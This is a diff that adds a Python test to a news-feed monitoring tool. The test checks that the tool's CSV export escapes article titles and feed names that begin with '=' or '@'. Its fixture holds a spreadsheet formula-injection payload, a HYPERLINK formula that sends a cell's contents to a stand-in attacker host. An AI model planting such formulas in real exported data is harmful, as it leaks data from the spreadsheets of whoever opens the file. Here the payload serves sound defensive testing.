@@ -246,3 +246,19 @@ def test_feeds_list_shows_failed_entries_and_a_moved_feed(tmp_path: Path) -> Non
                                        .splitlines())}
     assert lines["wire"]["failed_entries"] == 2 and lines["wire"]["config_url"] == "https://***@wire.example/rss"
     assert lines["mekong"]["redirect_pending"] == "https://elsewhere.example/rss"
+
+
+def test_csv_output_never_starts_a_cell_with_a_formula(tmp_path: Path, chat_server: ChatServer) -> None:  # noqa: F811
+    """A title such as '=HYPERLINK(…)' would run in the spreadsheet an analyst opens the CSV with."""
+    config = tmp_path / "config.toml"
+    config.write_text(f'[database]\nurl = "sqlite:///{tmp_path / "m.db"}"\n', encoding="utf-8")
+    settings = load_settings(config)
+    with Store.open(settings.database.url) as store:
+        add_story(store, settings, [rule("kh.raid")], feed="@feed", url="https://news.example.org/a/1",
+                  title='=HYPERLINK("http://evil.example/?"&A1,"Raid in Poipet")',
+                  text="Police raided a scam compound in Poipet.")
+    code, out, err = invoke("--config", str(config), "matches", "--format", "csv")
+    assert code == 0, err
+    [row] = csv.DictReader(io.StringIO(out))
+    assert row["article_title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Raid in Poipet")'
+    assert row["article_feed"] == "'@feed" and row["rule"] == "kh.raid"
